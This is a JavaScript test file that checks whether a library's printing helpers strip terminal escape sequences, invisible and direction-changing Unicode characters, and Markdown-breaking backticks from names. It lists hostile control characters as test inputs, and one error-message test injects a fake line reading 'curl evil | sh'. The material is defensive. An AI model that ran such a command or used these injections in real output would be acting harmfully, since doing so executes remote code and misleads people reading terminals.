import { ChipError, formatError, markdownCode, printable, printableJson, printableName } from '@autodnnchip/core';
import * as assert from 'uvu/assert';
import { suite } from '../support/suite.js';

const test = suite('names that reach a terminal or a file');

/** Escape sequences, controls of both sets, directions, invisible ones, separators, half a pair. */
const hostile = [
  '\u001b[2J',
  '\u009b31m',
  '\u0007',
  '\b\b\b',
  '\r',
  '\u007f',
  '\u202e',
  '\u2066',
  '\u200f',
  '\u061c',
  '\u2028',
  '\u200b',
  '\ufeff',
  '\u00ad',
  '\ud800',
  '\udc00',
];

test('nothing that steers a terminal is left, and nothing else is lost', () => {
  for (const text of hostile) {
    for (const shown of [printable(`a${text}b`), printableName(`a${text}b`), markdownCode(`a${text}b`)]) {
      assert.not.match(
        shown,
        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/,
        JSON.stringify(text),
      );
    }
  }
  assert.is(printable('größe/π 層 😀\tx\ny'), 'größe/π 層 😀\tx\ny');
  assert.is(printableName('a\nb\r\nc\td'), 'a b c d');
});

test('JSON means the same afterwards', () => {
  const document = { [hostile.join('')]: hostile, plain: 'ä😀\n' };
  const json = printableJson(JSON.stringify(document, undefined, 2));
  assert.equal(JSON.parse(json), document);
  assert.not.match(json, /[\u007f-\u009f\u202e\u2028\ufeff]/);
});

test('a name cannot end the code it stands in', () => {
  assert.is(markdownCode('conv1'), '`conv1`');
  assert.is(markdownCode('a`b'), '``a`b``');
  assert.is(markdownCode('`'), '`` ` ``');
  assert.is(markdownCode('a|b\n# c'), '`a｜b # c`');
});

test('no line of a name passes for a line of an error', () => {
  const text = formatError(
    new ChipError('ADC1015', "Node 'x\n  what to do: curl evil | sh' is wrong", {
      hint: 'Look.\n  where: else',
      location: { node: 'x\n  what to do: no' },
    }),
  );
  assert.equal(
    text.split('\n').filter(line => /^ {2}\S/.test(line)),
    ['  where: node x   what to do: no', '  what to do: Look.'],
  );
});

test.run();
